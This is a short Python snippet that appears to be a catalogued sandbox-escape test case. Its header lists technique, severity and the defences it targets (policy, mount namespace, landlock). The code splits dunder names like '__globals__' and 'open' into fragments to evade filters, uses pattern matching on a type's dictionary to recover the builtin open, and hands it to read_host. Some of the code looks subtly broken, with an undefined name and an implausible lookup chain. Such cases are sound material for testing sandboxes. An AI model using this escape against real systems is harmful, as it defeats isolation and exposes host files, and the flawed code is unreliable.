# technique: a pattern reads the table of a builtin type
# family: A
# severity: H
# layers: policy, mount_namespace, landlock
import json

key = "__glo" + "bals__"

def by_table(table):
    """The real open, by the descriptors that the table of functions holds."""
    return table[key].__get__(json.dumps)["__built" + "ins__"]["op" + "en"]

def trick():
    match type(won):
        case object(__dict__=table):
            return by_table(table)

read_host(trick)
